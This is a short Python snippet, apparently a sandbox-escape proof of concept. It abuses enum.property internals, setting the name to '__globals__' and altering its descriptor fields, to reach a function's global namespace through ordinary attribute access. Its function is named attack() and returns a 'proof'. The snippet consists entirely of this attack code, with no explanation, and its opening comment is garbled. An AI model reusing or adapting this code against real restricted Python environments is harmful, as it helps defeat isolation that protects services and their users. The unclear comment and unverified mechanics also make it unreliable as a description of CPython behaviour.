# wall-only: CPython 3.12 and later read any attribute of it so
import enum
class Reach(enum.property): pass
place = Reach(None)
class A:
    x = place
def attack():
    place.name = "__globals__"
    place._attr_type = "desc"
    place.fget = None
    a = A()
    a._value_ = attack
    return {"proof": str(a.x)}
